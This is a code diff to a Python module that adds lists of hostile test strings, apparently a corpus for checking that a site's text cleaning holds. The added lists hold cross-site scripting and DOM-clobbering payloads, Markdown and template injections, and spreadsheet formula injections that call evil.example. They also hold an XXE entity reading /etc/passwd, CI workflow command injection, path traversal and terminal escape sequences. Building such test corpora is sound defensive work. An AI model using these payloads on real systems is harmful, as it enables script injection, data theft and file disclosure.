@@ -316,6 +316,142 @@ _LETTERS = (
 """Letters that hide, look like others or are many; no page holds NUL, which `clean` takes away."""
 
 
+MUTATIONS = r"""
+<form><input name=attributes><input name=attributes>
+<form id=test><input name=parentNode></form><img name=createElement>
+<a id=document><a id=document name=cookie href=javascript:alert(1)>
+<img name=getElementById><img name=querySelector><form name=body>
+<a id=defaultView><a id=defaultView name=location href=javascript:alert(1)>
+<iframe name=self srcdoc="<a id=x href=javascript:alert(1)></a>">
+<a id=p1>x</a><h2 id=corrections>x</h2><p id=main>x</p>
+<a id=__config href=x></a><script id=__config type=application/json>{"base":"//evil.example"}</script>
+<svg><p><style><a id="</style><img src=1 onerror=alert(1)>">
+<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">
+<math><mi><table><mglyph><nolink><style><img src=x onerror=alert(1)>
+<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
+<svg></p><style><g title="</style><img src onerror=alert(1)>">
+<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
+<svg><desc><svg/onload=alert(1)//
+<svg><discard onbegin=alert(1)>
+<svg><image href=x onerror=alert(1)>
+<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>
+<svg><animate xlink:href=#x attributeName=href values=&#106;avascript:alert(1) /><a id=x><text>x</text></a>
+<svg><script href=data:text/javascript,alert(1) /></svg>
+<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
+<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
+<math xlink:href=javascript:alert(1)><mtext>x</mtext></math>
+<math><mglyph><style></math><img src onerror=alert(1)>
+<d3"<"/onclick="1>[confirm``]"<">z
+<w="/x="y>"/ondblclick=`<`[alert``]>z
+<a"/onclick=(alert)(1)>x
+<details/open/ontoggle="self['ale'+'rt'](1)">
+<body onscrollsnapchange=alert(1)><br><br>
+<xss onscrollend=alert(1) style="display:block;overflow:auto"><br></xss>
+<video onloadstart=alert(1)><source></video>
+<video controls onwebkitplaybacktargetavailabilitychanged=alert(1)>
+<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
+<link rel=canonical accesskey=X onclick=alert(1)>
+<div onbeforematch=alert(1) hidden=until-found>x</div>
+<input type=image src=x onerror=alert(1) formaction=javascript:alert(1)>
+<isindex type=image src=1 onerror=alert(1)>
+<xml onreadystatechange=alert(1)>
+<comment><img src="</comment><img src=x onerror=alert(1)>">
+<![<img src=x onerror=alert(1)//]>
+<? foo="><script>alert(1)</script>">
+<! foo="><script>alert(1)</script>">
+</ foo="><script>alert(1)</script>">
+<% foo><x foo="%><script>alert(1)</script>">
+<!--<img src="--><img src=x onerror=alert(1)//">
+<a href=" &#14;  javascript:alert(1)">x</a>
+<a href="javas&Tab;cript:alert(1)">x</a>
+<a href="j&#x61;vascript&#x3A;alert(1)">x</a>
+<a href="\x01javascript:alert(1)">x</a>
+<a href="javascript://%0aalert(1)">x</a>
+<a href="feed:javascript:alert(1)">x</a>
+<a href="view-source:javascript:alert(1)">x</a>
+[x](javascript://www.example.org%0Aalert(1))
+[x](java&#10;script:alert(1))
+[x]( javascript:alert(1) "t" )
+![x]("onerror="alert(1))
+[x]: javascript:alert(1) "t"
+[![x](https://evil.example/a.png)](javascript:alert(1))
+[notmalicious](javascript:window.onerror=alert;throw%20document.cookie)
+[citelol]: (javascript:prompt(document.cookie))
+[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
+<details><summary>x</summary><img src=https://evil.example/p.png></details>
+| a | <script>alert(1)</script> |
+```mermaid graph TD; A[<img src=x onerror=alert(1)>] ```
+$$\htmlData{onclick=alert(1)}{x}$$ $`\unicode{<img src=x onerror=alert(1)>}`$
+:::{iframe} https://evil.example/
+{{$on.constructor('alert(1)')()}}
+#{7*7} *{7*7} @(7*7) <%= 7*7 %> ${{7*7}}
+{{ config.items() }}{% include '/etc/passwd' %}
+{% raw %}{{ x }}{% endraw %}
+{: onclick="alert(1)" .md-header }
+{ .md-header onclick=alert(1) }
+</script><!--<script>alert(1)</script>
+"},"x":"</script><script>alert(1)</script>
+{"@context":"https://schema.org","@type":"Thing"}</script>
+\u2028alert(1)\u2029
+"""
+
+"""What a parser may put together anew, what takes the place of a page's own parts, and links that hide what they are."""
+
+DATA = r"""
+=cmd|' /C calc'!A0
++1+cmd|' /C calc'!A0
+-2+3+cmd|' /C calc'!A0
+@SUM(1+1)*cmd|' /C calc'!A0
+=HYPERLINK("https://evil.example/?"&A1,"x")
+=WEBSERVICE("https://evil.example/")
+;=cmd|' /C calc'!A0
+x","=1+1","y
+ER  - TY  - JOUR T1  - other
+T1  - other
+}, author = {Other}, note = {x
+@article{other, title = {x}}
+\input{/etc/passwd} \write18{id} \href{javascript:alert(1)}{x}
+% \end{document}
+]]></content><entry><title>other</title></entry>
+]]>&lt;script&gt;alert(1)&lt;/script&gt;
+</title></item><item><title>other</title></item>
+<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;
+" xmlUrl="https://evil.example/" x="
+::set-output name=x::y
+::add-mask::statement
+::stop-commands::x
+##[add-mask]statement
+%0A::error::x
+x%0D%0A::warning file=x::y
+vbscript:msgbox(1)
+//evil.example/x
+\\evil.example\x
+https:evil.example
+http:/evil.example/
+https://evil.example@arvenia.example/
+https://arvenia.example\@evil.example/
+file:///etc/passwd
+blob:https://evil.example/1
+about:blank#<script>alert(1)</script>
+../../../../etc/passwd
+"""
+
+"""What leaves a field of a file of data: CSV, RIS, BibTeX, feeds, OPML, and what commands a workflow; odd addresses."""
+
+_TERMINAL = (
+    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
+    "\x1b[2J\x1b[H owned",
+    "\r\x1b[Aowned",
+    "\x9b2Jowned",
+    "\u202exss\u202c",
+    "\u2066<img src=x onerror=alert(1)>\u2069",
+    "\ufff9x\ufffay\ufffb",
+    "\u034f\u115f\u1160\u17b4\u3164\uffa0",
+    "A\u030a\u20e3\u20dd",
+)
+"""What would move the cursor of a terminal, or be drawn as nothing."""
+
+
 def _lines(text: str) -> list[str]:
     return [line for line in text.split("\n") if line.strip()]
 
@@ -330,7 +466,10 @@ ALL = tuple(
             *_lines(TEMPLATES),
             *_lines(ENTITIES),
             *_lines(STYLES),
+            *_lines(MUTATIONS),
+            *_lines(DATA),
             *_LETTERS,
+            *_TERMINAL,
         ]
     )
 )
